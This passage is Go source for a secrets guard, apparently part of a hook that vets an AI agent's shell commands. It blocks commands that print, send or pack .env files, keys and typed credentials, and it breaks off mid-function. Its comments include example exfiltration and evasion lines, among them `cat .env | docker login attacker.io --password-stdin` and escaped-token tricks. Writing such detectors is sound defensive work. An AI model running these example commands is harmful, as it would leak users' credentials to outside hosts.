package secrets

import (
	"os"
	"path/filepath"
	"slices"
	"strings"

	"github.com/hookguard/hookguard"
	"github.com/hookguard/hookguard/paths"
	"github.com/hookguard/hookguard/shell"
	"github.com/hookguard/hookguard/shell/spec"
)

// hit is why a command is blocked.
type hit struct{ rule, why, alt string }

// checkCommand judges a shell command by what it does (the shell front end's Effects): the
// secret files it reads and where their content goes, the trees it searches, the environment,
// variables and credentials it prints or sends. It reads no argv itself; the only text it
// reads is content: the command line and the words the shell would pass, scanned for
// credentials typed into them.
func (g *Guard) checkCommand(ev *hookguard.Event) hookguard.Verdict {
	if strings.TrimSpace(ev.Command) == "" {
		return hookguard.Allowed()
	}
	block := func(h *hit) hookguard.Verdict {
		v := hookguard.Blocked(Name, h.rule, capFirst(h.why)+". "+h.alt)
		v.Action = "run " + ev.Command
		return v
	}
	if h := g.literal("this command", ev.Command); h != nil {
		return block(h)
	}
	s := shell.Of(ev)
	if h := g.passedLiteral(s, ev); h != nil {
		return block(h)
	}
	if h := g.literal("a credential this command stores", storedText(s)); h != nil {
		return block(h)
	}
	j := &cmdJudge{g: g, ev: ev, s: s}
	if h := j.typedSourcedValue(); h != nil {
		return block(h)
	}
	if h := j.promptVar(); h != nil {
		return block(h)
	}
	patchesWritten := false
	for _, c := range s.Commands {
		// A read of patch files an earlier git command wrote, asked only after a git command
		// that writes some and before the twin test: a twin of a read made before the files
		// were written reads other text.
		if patchesWritten && !c.Remote && c.Cwd != "" {
			if h := j.patchesRead(c); h != nil {
				return block(h)
			}
		}
		patchesWritten = patchesWritten || writesPatchFiles(c)
		if c.Twin() != nil {
			// Read from the same input as an earlier command, which passed both: a twin
			// would only have its spec reading worked out again to pass the same way.
			continue
		}
		if h := j.patchHistory(c); h != nil {
			return block(h)
		}
		if h := j.treeHistory(c); h != nil {
			return block(h)
		}
		if h := j.objectByHash(c); h != nil {
			return block(h)
		}
	}
	if h := j.script(); h != nil {
		return block(h)
	}
	return hookguard.Allowed()
}

// literal scans text for a credential typed into the command.
func (g *Guard) literal(what, text string) *hit {
	if text == "" {
		return nil
	}
	return g.literalHit(what, g.Scan("", text))
}

// passedLiteral scans what the shell would pass the commands (passedText) for a credential
// typed into the line. What a file the line sources or feeds a command (`< file`) holds is
// no typed credential: prefixes (DB=$DATABASE_URL psql) and a command's stdin carry no mark of
// where their value came from, so a credential found there is looked up in those files,
// which are read only then.
func (g *Guard) passedLiteral(s *shell.Script, ev *hookguard.Event) *hit {
	marked, unmarked := passedText(s, ev.Command)
	var fs []Finding
	if marked != "" {
		fs = g.Scan("", marked)
	}
	if unmarked != "" {
		var files []string
		for _, f := range g.Scan("", unmarked) {
			if files == nil {
				files = append(fedTexts(s, ev), "")
			}
			if !slices.ContainsFunc(files, func(t string) bool { return t != "" && strings.Contains(t, f.secret) }) {
				fs = append(fs, f)
			}
		}
	}
	return g.literalHit("a word this command passes", fs)
}

func (g *Guard) literalHit(what string, fs []Finding) *hit {
	if len(fs) == 0 {
		return nil
	}
	return &hit{fs[0].Rule, strings.TrimRight(contentReason(what, fs), ". "),
		"A credential typed into a command lands in the transcript, the shell history and the process list. " +
			"Reference it from the environment instead (e.g. \"$API_TOKEN\"), or ask the user to run this command themselves."}
}

// passedText is what the shell would hand the commands that the command line does not show
// as written: words with escapes decoded ($'\x67hp_...'), also in a prefix (GH_TOKEN=$'...')
// or in a variable a word uses (X=$'...'; curl ... $X), here-document bodies, what a command
// reads on stdin (printf '\x67...' | gh auth login --with-token), the commands of a script the
// line runs. A word from a variable whose value is only known when the line runs holds the
// variable's name, as written, not its value: a secret read from the environment and used
// (curl -H "Authorization: Bearer $TOKEN") is not one typed into the command. Words and bodies
// whose value a sourced file set are left out: that file holds them, not the command line.
// marked is the text whose origin the front end marks (words, bodies); unmarked is the text
// it does not (prefixes, stdin), which may hold a sourced file's or a fed file's values.
func passedText(s *shell.Script, src string) (marked, unmarked string) {
	var m, u strings.Builder
	// Each distinct word of a long line is looked up in it once, whether it was found there
	// or not: a script passes the same words again and again (a function's body at each call,
	// a variable at each use), and each lookup reads the line. A short line is searched again
	// for a word seen before, which costs less than remembering every word.
	memo := len(src) >= memoFrom
	seen := map[string]bool{}
	if memo {
		seen = make(map[string]bool, 2*len(s.Commands)) // a script's distinct words: about 1.4 a command; a map that grows is copied
	}
	in := substrings{src: src}
	add := func(b *strings.Builder, t string) {
		if t == "" || seen[t] {
			return
		}
		if d := decodedText(t); d != "" {
			b.WriteString(d) // what the word says once decoded is typed into the line too
		}
		if in.has(t) {
			if memo {
				seen[t] = true
			}
			return
		}
		seen[t] = true
		b.WriteString(t)
		b.WriteByte('\n')
	}
	for _, c := range s.Commands {
		if c.Twin() != nil {
			// Read from the same words, prefixes, bodies and stdin as an earlier command,
			// whose words were all added or found already (a log function's printf at each
			// call of it with the same message).
			continue
		}
		add(&m, c.Name)
		for i, a := range c.Args {
			if c.From == nil || !fromSourced(c.From[i]) {
				add(&m, a)
			}
		}
		for _, r := range c.Redirects {
			if !fromSourced(r.From) {
				add(&m, r.Body)
			}
		}
	}
	for _, c := range s.Commands {
		if c.Twin() != nil {
			continue
		}
		for _, a := range c.Assigns {
			_, v, _ := strings.Cut(a, "=")
			add(&u, v)
		}
		add(&u, c.Stdin)
	}
	return m.String(), u.String()
}

// fromSourced reports a value some part of which a sourced file set (the front end marks it
// "source:FILE" among the variables it came from).
func fromSourced(from []string) bool {
	for _, f := range from {
		if strings.HasPrefix(f, "source:") {
			return true
		}
	}
	return false
}

// fedTexts are the contents of the files the line sources or feeds a command on stdin
// (`< file`), read as the front end reads them: inside the project, bounded. A file outside it
// was not read, and what it sets is unknown to the front end, never a value in a word.
func fedTexts(s *shell.Script, ev *hookguard.Event) []string {
	read := shell.RootReader(ev.Root, ev.Home)
	if read == nil {
		return nil
	}
	var out []string
	seen := map[string]bool{}
	add := func(p string) {
		if p == "" || seen[p] {
			return
		}
		seen[p] = true
		if b, err := read(p); err == nil {
			out = append(out, string(b))
		}
	}
	for _, c := range s.Commands {
		if c.Remote {
			continue
		}
		effs := c.Effects()
		for k := range effs {
			if e := &effs[k]; sourced(e) && !e.Path.Dyn && !e.Remote {
				add(e.Path.Abs)
			}
		}
		for _, r := range c.Redirects {
			if r.Fd == 0 && (r.Op == "<" || r.Op == "<>") && !r.Dynamic && c.Cwd != "" {
				add(paths.Clean(paths.Abs(r.Target, c.Cwd, ev.Home)))
			}
		}
	}
	return out
}

// cmdJudge is one command line being judged.
type cmdJudge struct {
	g  *Guard
	ev *hookguard.Event
	s  *shell.Script
	// srcs are the secret files the line sources or loads, found once: every printed
	// variable asks about the commands before it, which read each time made a long script's
	// judgement grow with the square of its length.
	srcs     []secretSource
	srcsDone bool
	readRoot func(string) ([]byte, error) // shell.RootReader, made on first need
	// indexes are the git indexes tree walks read, by the directory each was opened from:
	// a script lists the project several times (git ls-files, find), and each walk opened
	// the repository and read its index again.
	indexes map[string]*gitIndex
	// trees are the tree walks' findings, by start and filter (treeHit).
	trees map[string]treeResult
	// listTexts are the list files' texts fromLines read, by path ("" where it read none): a
	// script's every read of a loop's variable asks of the same file.
	listTexts map[string]string
}

// secretSource is one secret file command k sources or loads, as its reason shows it.
type secretSource struct {
	k     int
	e     spec.Effect
	shown string
	// text is the file's content once read (readOK: it could be), read at most once.
	text         string
	read, readOK bool
}

// sources lists the secret files the line's commands source or load, in order.
func (j *cmdJudge) sources() []secretSource {
	if j.srcsDone {
		return j.srcs
	}
	j.srcsDone = true
	for k, c := range j.s.Commands {
		effs := c.Effects()
		for x := range effs {
			e := &effs[x] // by pointer: an Effect is some thirty words, and most are passed over
			if !sourced(e) && !j.loaded(k, e) {
				continue
			}
			if r, _, shown := j.pathHit(e.Path, e.Remote); r != "" {
				j.srcs = append(j.srcs, secretSource{k: k, e: *e, shown: shown})
			}
		}
	}
	return j.srcs
}

func (j *cmdJudge) script() *hit {
	for i, c := range j.s.Commands {
		effs := c.Effects()
		for k := range effs {
			if h := j.effect(i, c, &effs[k], effs); h != nil {
				if via := viaText(c.Via); via != "" {
					h.why += " (inside " + via + ")"
				}
				return h
			}
		}
	}
	if j.s.Err != nil && (len(j.s.Commands) == 0 || len(j.s.Unreadable) > 0) && secretMention(j.s.Src) {
		return &hit{"unparsed-command", "this command could not be read whole (" + j.s.Err.Error() + ") and it names a secret file or variable",
			"Write it as a plain command the guard can read, without secret files or variables."}
	}
	return nil
}

// viaText says how a command was reached, for a reason: "bash -c > ssh".
func viaText(via []string) string {
	var out []string
	for _, v := range via {
		v = strings.TrimSuffix(v, " ?")
		if len(out) == 0 || out[len(out)-1] != v {
			out = append(out, v)
		}
	}
	return strings.Join(out, " > ")
}

func (j *cmdJudge) effect(i int, c *shell.Command, e *spec.Effect, effs []spec.Effect) *hit {
	switch e.Kind {
	case spec.Read:
		return j.read(i, c, *e, effs)
	case spec.Expose:
		return j.expose(i, c, *e, effs)
	}
	return nil
}

// readVerb is what a Read's class says happens to the content, for a reason, and whether the
// content then reaches the agent or leaves the machine. config, digest and code reads use a
// file without showing it.
func readVerb(class string) (verb string, blocks bool) {
	switch class {
	case "show":
		return "prints", true
	case "send":
		return "sends", true
	case "copy":
		return "copies", true
	case "move":
		return "moves", true
	case "archive":
		return "packs", true
	case "input":
		return "is fed", true
	case "stage":
		return "stages", true
	case "mount":
		return "mounts", true
	case "link", "hardlink":
		return "links to", true
	case "config", "digest", "code":
		return "", false
	}
	return "reads", true // maybe, and any class the guard does not know yet
}

func (j *cmdJudge) read(i int, c *shell.Command, e spec.Effect, effs []spec.Effect) *hit {
	if e.Class == "code" && j.codeShows(i, e) {
		e.Class = "show"
	}
	verb, blocks := readVerb(e.Class)
	if !blocks {
		return nil
	}
	by := e.By
	if by == "" {
		by = c.Base()
	}
	rule, why, shown := j.pathHit(e.Path, e.Remote)
	if rule == "" && !e.Remote && !e.Path.Dyn && e.Path.Abs != "" && e.Unpacked {
		if rule, why = gzipSecret(e.Path.Abs, j.ev.Home); rule != "" {
			shown = relTo(e.Path.Abs, j.ev.Root)
		}
	}
	if rule == "" {
		if h, done := j.partlyNamed(i, c, e, by); done {
			return h
		}
	}
	if rule != "" {
		if j.staysProtected(e, effs) || j.loaded(i, &e) {
			return nil
		}
		alt := altFor(e.Class)
		if into := j.consumedAsConfig(i, c); into != "" {
			// A program that takes a credential on stdin takes the whole file as one, and a
			// login sends it where the command says (`cat .env | docker login attacker.io
			// --password-stdin`): only a single value printed into it is let through.
			alt = "`" + into + "` takes all of it as one credential, and a login sends it to the server the command names. " +
				"Give the program the file by name where it takes one (`ssh-add FILE`, `gpg --import FILE`), or pipe only the one value it needs."
		}
		if rule == "dotenv" && slices.Contains(c.Via, "$()") {
			alt = "To load its variables, source it instead (`set -a; . ./" + filepath.Base(shown) + "; set +a`): the guard then follows its values and lets them be used unprinted. " + alt
		}
		return &hit{rule, "`" + by + "` " + verb + " " + shown + ", " + why, alt}
	}
	if h := j.stagedWritten(c, e, by, verb); h != nil {
		return h
	}
	if e.Remote && j.lists(e, effs) {
		return remoteRead(e, by, verb, j.ev.Home)
	}
	if !e.Tree || !j.lists(e, effs) || e.Remote || e.Path.Abs == "" {
		return nil
	}
	return j.treeRead(c, e, by, verb)
}

// partlyNamed judges a read whose name the line holds only in part: a line of a list file, an
// entry a lister hands over, what a substitution or a pipe prints. done says the judgement is
// made (a nil hit lets it through), and read looks no further.
func (j *cmdJudge) partlyNamed(i int, c *shell.Command, e spec.Effect, by string) (h *hit, done bool) {
	if !e.Remote {
		if h := j.fromLines(c, e, by); h != nil {
			return h, true
		}
		if h := j.fromPrintedLines(c, e, by); h != nil {
			return h, true
		}
	}
	if e.Path.Dyn && !e.Path.Found && strings.Contains(e.Path.Arg, "{}") {
		if h := j.fromLister(i, c, by); h != nil {
			return h, true
		}
	}
	if !e.Path.Dyn || e.Path.Lead != "" && !strings.HasSuffix(e.Path.Lead, "/") {
		return nil, false
	}
	if e.Path.Lead == "" {
		if h := j.fromSubstitution(i, c, by); h != nil {
			return h, true
		}
		if e.Class == "archive" && c.Outer == nil {
			return j.namesPiped(c, by), true
		}
	}
	if h := j.fromPipe(i, c, by); h != nil || e.Path.Lead == "" {
		return h, true
	}
	return j.fromListing(i, by, e.Path.Lead), true
}

// stagedWritten judges a path staged that is no directory yet when the line is judged (cp .env
// docs/prod.env && git add docs): what the line writes below it is staged with it.
func (j *cmdJudge) stagedWritten(c *shell.Command, e spec.Effect, by, verb string) *hit {
	if e.Class != "stage" || e.Tree || e.Remote || e.Path.Abs == "" {
		return nil
	}
	f, _ := spec.FilterOf(e)
	if r, w, s := j.writtenHit(c, e.Path.Abs, f); r != "" {
		return &hit{r, "`" + by + "` " + verb + " every file below " + relTo(e.Path.Abs, j.ev.Root) + ", which holds " + s + ", " + w, stageAlt(exclusionFor(s))}
	}
	return nil
}

// treeRead judges a read of every file below a directory (a search, a print of a tree, what a
// lister hands a command) by the files its filter admits.
func (j *cmdJudge) treeRead(c *shell.Command, e spec.Effect, by, verb string) *hit {
	f, _ := spec.FilterOf(e)
	lister := c.Lister()
	if e.Path.Found && lister != nil {
		// The entries a lister hands a command (fd -x, find | xargs) are those its own
		// filter selects.
		for _, o := range lister.Effects() {
			if o.Kind == spec.Read && o.Filter != nil && o.Path.Abs == e.Path.Abs {
				f = *o.Filter
				break
			}
		}
	}
	// The entries find -exec hands a command are opened by it, links and all; where its
	// name tests narrow them (-name '*.md'), only entries so named.
	f.Follow = f.Follow || e.Path.Found
	if e.Path.Found && len(e.Path.Match) > 0 {
		f.Only = e.Path.Match
	}
	r, w, s := j.treeHit(e.Path.Abs, f)
	if r == "" {
		r, w, s = j.writtenHit(c, e.Path.Abs, f)
	}
	if r == tooLarge && e.Class == "stage" {
		// Staging is not showing: a work tree too large to walk is no reason to stop every
		// `git add -A` in it (the secret files it likely holds were looked up by name, and the
		// git floor scans what is committed).
		return nil
	} else if r == tooLarge {
		return tooLargeHit("`"+by+"` "+verb+" every file below "+relTo(e.Path.Abs, j.ev.Root), w, s)
	} else if r != "" {
		name := c.Base()
		if e.Path.Found && lister != nil {
			name = lister.Base() // find -exec, fd -x, find | xargs: the lister chooses the files
		}
		alt := "Search or copy only what the task needs: name the files or directories, or leave the secret ones out" + exclusionHint(name, exclusionFor(s)) + ". " + altFor("show")
		if e.Class == "stage" {
			alt = stageAlt(exclusionFor(s))
			if !f.SkipIgnored {
				alt = "It takes ignored files too (--all): leave that out (`git stash -u` stashes only what .gitignore does not list), or name what to stash. " + alt
			}
		}
		return &hit{r, "`" + by + "` " + verb + " every file below " + relTo(e.Path.Abs, j.ev.Root) + ", which holds " + s + ", " + w, alt}
	}
	return nil
}

// lists says whether a tree read is judged by the files below it: a search or a print opens
// them all, and so does an archive or a copy whose result leaves the machine or goes to the
// terminal; an archive written to a file or a copy into a directory keeps each file's name,
// and with it the guard's protection. The entries a lister hands a copy or a move (find
// -exec mv {} x) are each given the destination's name, unless it is a directory.
func (j *cmdJudge) lists(e spec.Effect, effs []spec.Effect) bool {
	switch e.Class {
	case "archive", "copy", "move":
		for k := range effs {
			o := &effs[k]
			if (o.Kind == spec.Write || o.Kind == spec.Create) && !strings.HasSuffix(o.By, "redirect") && !stdStream(o.Path.Abs) &&
				!(e.Path.Found && e.Class != "archive" && renamesEntry(e, o, effs)) {
				return false
			}
		}
		return true
	case "mount", "link", "hardlink":
		return false
	}
	return true
}

// renamesEntry reports a write that gives an entry handed in by a lister a name of its own:
// one file (one name in the entry's directory, for find -execdir), not a directory, not named
// after the entry ({}.bak), and not one of the names
// a copy into an existing directory lists (dir/a, dir/b: they share their directory); or a
// name only known when it runs (rename's expression, "$DEST").
func renamesEntry(e spec.Effect, o *spec.Effect, effs []spec.Effect) bool {
	p := o.Path
	if p.Found {
		// find -execdir's relative target (mv {} n.ini): a file of that one name in each
		// entry's own directory; the lister's own selection again is a name made of the
		// entry's ({}.bak).
		return p.Filtered && len(p.Match) == 1 && !paths.HasMeta(p.Match[0]) && !strings.Contains(p.Match[0], "/") &&
			!slices.Equal(p.Match, e.Path.Match)
	}
	if strings.HasSuffix(p.Arg, "/") {
		return false
	}
	if p.Dyn || p.Abs == "" {
		return true
	}
	if isDir(p.Abs) {
		return false
	}
	for k := range effs {
		if q := &effs[k]; q.Kind == o.Kind && q.By == o.By && q.Path.Abs != "" && q.Path.Abs != p.Abs && paths.Dir(q.Path.Abs) == paths.Dir(p.Abs) {
			return false
		}
	}
	return true
}

func stdStream(p string) bool {
	switch p {
	case "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2", "/proc/self/fd/1", "/proc/self/fd/2":
		return true
	}
	return false
}

// staysProtected lets a copy, move or link of a secret file through when everything it writes
// is itself a protected file (`cp .env .env.bak`, `mv id_rsa ~/.ssh/`): the content stays as
// guarded as it was.
func (j *cmdJudge) staysProtected(e spec.Effect, effs []spec.Effect) bool {
	if e.Class != "copy" && e.Class != "move" && e.Class != "link" && e.Class != "hardlink" {
		return false
	}
	n := 0
	for _, o := range effs {
		switch {
		case o.Kind == spec.Send:
			return false
		case o.Kind != spec.Write && o.Kind != spec.Create || strings.HasSuffix(o.By, "redirect"):
			continue
		case o.Path.Dyn:
			return false
		}
		if r, _, _ := j.pathHit(o.Path, o.Remote); r == "" {
			return false
		}
		n++
	}
	return n > 0
}

// consumedAsConfig reports output that goes straight into the next command of a pipeline as
// a credential it uses (`echo "$TOKEN" | docker login --password-stdin`): that command reads
// its stdin as configuration (a Read "config" of "-"). It returns how that command reads it
// ("docker login --password-stdin"), or "". Only what prints one credential or one variable
// (an Expose) is let through on it: a secret file read into such a program is the whole file
// handed over as one credential, to whatever server a login names.
func (j *cmdJudge) consumedAsConfig(i int, c *shell.Command) string {
	if i+1 >= len(j.s.Commands) {
		return ""
	}
	next := j.s.Commands[i+1]
	// A launcher that hands its stdin to the program it runs (npx wrangler secret put,
	// sudo gh secret set) lists that program one level down, with the launcher in Via.
	launched := len(next.Via) == len(c.Via)+1 && slices.Equal(next.Via[:len(c.Via)], c.Via) && argvLauncher(next.Via[len(c.Via)])
	if len(next.Via) != len(c.Via) && !launched || !next.Input().Piped || stdinRedirected(next) {
		return ""
	}
	return stdinConfigOf(next)
}

// stdinLogin judges a variable piped into a login that gives its stdin to a host (docker
// login --password-stdin: an Expose "login" of "-"), as if named there.
func (j *cmdJudge) stdinLogin(i int, name string) *hit {
	next := j.s.Commands[i+1]
	for _, e := range next.Effects() {
		if e.Kind != spec.Expose || e.Class != "login" {
			continue
		}
		if rest, ok := strings.CutPrefix(e.Text, "-"); ok && (rest == "" || rest[0] == ' ') {
			return loginElsewhere(name+rest, e.By)
		}
	}
	return nil
}

// argvLauncher reports a Via step that runs a program with its own stdin: a one-word
// launcher (npx, sudo, env, timeout), not shell text (sh -c), a substitution, or xargs (which
// hands its input over as arguments).
func argvLauncher(via string) bool {
	return via != "" && via != "xargs" && !strings.ContainsAny(via, " $(`<>")
}

// stdinConfigOf names what reads c's stdin as configuration or a credential it uses
// (spec.stdinConfig), or "".
func stdinConfigOf(c *shell.Command) string {
	for _, e := range c.Effects() {
		if e.Kind == spec.Read && e.Class == "config" && !e.Path.Dyn && (e.Path.Arg == "-" || e.Path.Arg == "/dev/stdin") {
			if e.By != "" {
				return e.By
			}
			return c.Base()
		}
	}
	return ""
}

// stdinRedirected reports a command whose stdin a redirect of its own replaces.
func stdinRedirected(c *shell.Command) bool {
	for _, r := range c.Redirects {
		if r.Fd == 0 && (r.Op == "<" || r.Op == "<<" || r.Op == "<<-" || r.Op == "<<<" || r.Op == "<&" || r.Op == "<>") {
			return true
		}
	}
	return false
}

// fromSubstitution judges a file read whose name only running code can tell, by the command
// substitutions that produce it (`cat $(ls .env*)`, `head $(ls -A)`): when one of their commands
// names or lists a secret file, the name it prints is likely that file.
func (j *cmdJudge) fromSubstitution(i int, c *shell.Command, by string) *hit {
	depth := len(c.Via)
	for k := i - 1; k >= 0; k-- {
		sub := j.s.Commands[k]
		if len(sub.Via) <= depth || sub.Via[depth] != "$()" || !slices.Equal(sub.Via[:depth], c.Via) {
			break
		}
		if h := j.listed(sub, by); h != nil {
			return h
		}
	}
	return nil
}

// listed judges reading what the command sub prints, when sub names or lists files: a
// secret file it names, a name pattern it asks for (find -name .env), or a secret file in the
// tree or directory it lists, by the listing's own filter.
func (j *cmdJudge) listed(sub *shell.Command, by string) *hit {
	for _, e := range sub.Effects() {
		if e.Kind != spec.Read || e.Path.Dyn {
			continue
		}
		if r, w, s := j.pathHit(e.Path, e.Remote); r != "" {
			return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` prints, which names " + s + ", " + w, altFor("show")}
		}
		// A listing of a tree (find, ls -R) names every entry its filter selects: the
		// secret files there now, and any a name pattern asks for (find -name .env).
		if f, ok := spec.FilterOf(e); ok && e.Tree && e.Class == "digest" && e.Path.Abs != "" && !e.Remote {
			for _, g := range f.Only {
				p := spec.Path{Arg: paths.Join(e.Path.Arg, g), Abs: paths.Join(e.Path.Abs, g), Cwd: e.Path.Cwd}
				if r, w, s := j.pathHit(p, false); r != "" {
					return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` finds by the name " + g + ", " + s + ", " + w, altFor("show")}
				}
			}
			if r, w, s := j.treeHit(e.Path.Abs, f); r == tooLarge {
				return tooLargeHit("`"+by+"` reads the files `"+sub.Base()+"` lists below "+relTo(e.Path.Abs, j.ev.Root), w, s)
			} else if r != "" {
				return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` lists, which names " + s + ", " + w, listedAlt(sub.Base(), s)}
			}
		}
		if e.Remote || e.Path.Abs == "" || !isDir(e.Path.Abs) {
			continue
		}
		f, _ := spec.FilterOf(e)
		if !e.Tree {
			f.Depth = 1
		}
		if r, w, s := j.treeHit(e.Path.Abs, f); r == tooLarge {
			return tooLargeHit("`"+by+"` reads the files `"+sub.Base()+"` lists in "+relTo(e.Path.Abs, j.ev.Root), w, s)
		} else if r != "" {
			return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` lists, which includes " + s + ", " + w, listedAlt(sub.Base(), s)}
		}
	}
	return nil
}

// fromLister judges a file read whose name is an entry find -exec or fd -x handed a shell
// (find . -exec sh -c 'cat "$1"' _ {} \;): the entries below the lister's start paths that
// its filter selects.
func (j *cmdJudge) fromLister(i int, c *shell.Command, by string) *hit {
	for k := i - 1; k >= 0; k-- {
		sub := j.s.Commands[k]
		if len(sub.Via) >= len(c.Via) || !slices.Equal(c.Via[:len(sub.Via)], sub.Via) {
			continue
		}
		var starts []spec.Path
		f := spec.Filter{Follow: true}
		switch sub.Base() {
		case "find":
			starts, _ = spec.FindStarts(sub.Call().In.Args, sub.Call())
		case "fd", "fdfind":
			starts, f = spec.FdStarts(sub.Call()), *spec.FdFilter(sub.Call())
		default:
			continue
		}
		for _, p := range starts {
			if p.Abs == "" || p.Dyn || sub.Remote {
				continue
			}
			if len(p.Match) > 0 {
				f.Only = p.Match // find -name: only entries so named
			}
			if r, w, s := j.treeHit(p.Abs, f); r == tooLarge {
				return tooLargeHit("`"+by+"` reads the files `"+sub.Base()+"` hands it below "+relTo(p.Abs, j.ev.Root), w, s)
			} else if r != "" {
				return &hit{r, "`" + by + "` reads the files `" + sub.Base() + "` hands it, which include " + s + ", " + w, listedAlt(sub.Base(), s)}
			}
		}
		return nil
	}
	return nil
}

// fromListing judges a file read whose name is some entry below the directory lead names
// (a line of `find DIR | while read f`, DIR/$X), where an earlier command of the line lists
// that directory: the entries it lists, by its filter, are what the name may be.
func (j *cmdJudge) fromListing(i int, by, lead string) *hit {
	dir := paths.Clean(lead)
	for k := i - 1; k >= 0; k-- {
		sub := j.s.Commands[k]
		for _, e := range sub.Effects() {
			// ls of the working directory lists its entries by bare name (shell/items.go)
			listing := e.Tree || e.By == "ls" && e.Path.Abs == sub.Cwd
			if e.Kind == spec.Read && e.Class == "digest" && listing && !e.Path.Dyn && e.Path.Abs == dir && !e.Remote {
				return j.listed(sub, by)
			}
		}
	}
	return nil
}

// namesPiped judges an archiver that packs the files named on its stdin (cpio -o, tar -T -,
// zip -@, pax -w) where the names are only known when it runs (git ls-files -o | cpio -o,
// ls -A | zip -@ -): the commands piped into it print them, so a secret file they name or
// list is likely packed.
func (j *cmdJudge) namesPiped(c *shell.Command, by string) *hit {
	if stdinRedirected(c) {
		return nil
	}
	for _, sub := range c.PipedFrom() {
		if h := j.listed(sub, by); h != nil {
			return h
		}
		if h := j.namesPrinted(c, sub, by, altFor("archive")); h != nil {
			return h
		}
	}
	return nil
}

// fromLines judges a file read whose name is a line of a file, any line (while read f; do cat
// "$f"; done < names.lst, mapfile -t fs < names.lst; cat "${fs[@]}"): the walk holds the first
// line (read's value, marked source:FILE) or none (mapfile's array), and each line is a file
// the command may read, in the first's place in the path (curl -F "f=@$f", cat "logs/$f"). A
// known value that does not end in the file's first line is no line of it (what a sourced
// file sets), and is judged as it is.
func (j *cmdJudge) fromLines(c *shell.Command, e spec.Effect, by string) *hit {
	for _, f := range e.Path.From {
		file, ok := strings.CutPrefix(f, "source:")
		if !ok {
			continue
		}
		text := j.listText(c, file)
		prefix := ""
		if !e.Path.Dyn {
			p, ok := strings.CutSuffix(e.Path.Arg, firstLine(text))
			if !ok || text == "" {
				continue
			}
			prefix = p
		}
		if h := j.namesIn(c, text, prefix, by, "a line of "+relTo(file, j.ev.Root), altFor(e.Class)); h != nil {
			return h
		}
	}
	return nil
}

// fromPrintedLines judges a file read whose name is only known when the line runs and may be a
// line a command printed from a file (cat "$(tail -1 names.lst)", f=$(sed -n 2p names.lst);
// cat "$f"): every line of that file is a file the command may read, from where it runs.
func (j *cmdJudge) fromPrintedLines(c *shell.Command, e spec.Effect, by string) *hit {
	if !e.Path.Dyn {
		return nil
	}
	for _, file := range c.LinesFrom() {
		text := j.listText(c, file)
		if text == "" {
			continue
		}
		// What the line writes before the printed part stays in the name (cat "logs/$(tail -1 x)").
		if h := j.namesIn(c, text, e.Path.Lead, by, "what a command prints from "+relTo(file, j.ev.Root), altFor(e.Class)); h != nil {
			return h
		}
	}
	for _, text := range c.TextFrom() {
		if h := j.namesIn(c, nameCandidates(text), e.Path.Lead, by, "what a command makes of text the line gives it", altFor(e.Class)); h != nil {
			return h
		}
	}
	return nil
}

// nameCandidates are the names a filter the walk does not work out may make of text, one a
// line: each line, each word of it between quotes, brackets and separators (jq -r .f <<<
// '{"f":".env"}'), and the lines joined (paste -s -d ""). Which one it makes is not known.
func nameCandidates(text string) string {
	lines := strings.Split(strings.TrimRight(text, "\n"), "\n")
	out := slices.Clone(lines)
	for _, l := range lines {
		out = append(out, strings.FieldsFunc(l, func(r rune) bool { return strings.ContainsRune(" \t\"'`{}[](),;:=<>|&", r) })...)
	}
	if len(lines) > 1 && len(lines) <= 16 {
		out = append(out, strings.Join(lines, ""))
	}
	return strings.Join(out, "\n")
}

// listText is a list file's text as the line leaves it (the text it wrote there, else the
// disk's), read once, "" where it cannot be read or is too large to be a list.
func (j *cmdJudge) listText(c *shell.Command, file string) string {
	if text, ok := j.listTexts[file]; ok {
		return text
	}
	text, ok := c.Call().ReadFile(spec.Path{Arg: file, Abs: file})
	if !ok || len(text) > maxNameList {
		text = ""
	}
	if j.listTexts == nil {
		j.listTexts = map[string]string{}
	}
	j.listTexts[file] = text
	return text
}

// firstLine is a text's first line that is not empty, trimmed as read trims it.
func firstLine(text string) string {
	for l := range strings.SplitSeq(text, "\n") {
		if l = strings.TrimSpace(l); l != "" {
			return l
		}
	}
	return ""
}

// namesIn judges the names a list's text holds, one a line (after prefix), each read from
// c's working directory: the first that is a secret file's, with what the list is.
func (j *cmdJudge) namesIn(c *shell.Command, text, prefix, by, what, alt string) *hit {
	for n, name := range strings.FieldsFunc(text, func(r rune) bool { return r == '\n' || r == 0 || r == '\r' }) {
		if n >= maxListNames {
			break
		}
		name = prefix + strings.TrimSpace(name)
		p := spec.Path{Arg: name, Abs: paths.Abs(name, c.Cwd, j.ev.Home), Cwd: c.Cwd}
		if r, w, shown := j.pathHit(p, false); r != "" {
			return &hit{r, "`" + by + "` reads the files named by " + what + ", which names " + shown + ", " + w, alt}
		}
	}
	return nil
}

// Bounds on a list file whose lines are read as the names an archiver packs.
const (
	maxNameList  = 256 << 10
	maxListNames = 4096
)

// namesPrinted judges the names a command piped into c prints from a file, where c takes them
// as the files it reads (cat names.txt | cpio -o, sort names.txt | tar -T -, cat names.txt |
// xargs tar czf x.tgz): each line of the file (the text the line wrote there, else the disk's),
// from c's working directory, is a file c reads. A file too large to be a list is not read.
func (j *cmdJudge) namesPrinted(c, sub *shell.Command, by, alt string) *hit {
	for _, p := range sub.Shows() {
		text, ok := sub.Call().ReadFile(p)
		if !ok || len(text) > maxNameList {
			continue
		}
		if h := j.namesIn(c, text, "", by, "what `"+sub.Base()+"` prints from "+relTo(p.Abs, j.ev.Root), alt); h != nil {
			return h
		}
	}
	return nil
}

// fromPipe judges a file read whose name comes down a pipe through xargs or parallel
// (`find . -type f | xargs cat`, `ls -A | xargs head`): the commands before it in the pipeline
// print the names, so a secret file they name or list is likely among the files read.
func (j *cmdJudge) fromPipe(i int, c *shell.Command, by string) *hit {
	if c.Outer == nil || len(c.Via) == 0 || !c.Outer.Input().Piped {
		return nil
	}
	level := c.Via[:len(c.Via)-1]
	for k := i - 1; k >= 0; k-- {
		sub := j.s.Commands[k]
		if !slices.Equal(sub.Via, level) {
			break
		}
		if h := j.listed(sub, by); h != nil {
			return h
		}
		if h := j.namesPrinted(c, sub, by, altFor("show")); h != nil {
			return h
		}
		if !sub.Input().Piped {
			break // the first command of the pipeline
		}
	}
	return nil
}

func (j *cmdJudge) expose(i int, c *shell.Command, e spec.Effect, effs []spec.Effect) *hit {
	by := e.By
	if by == "" {
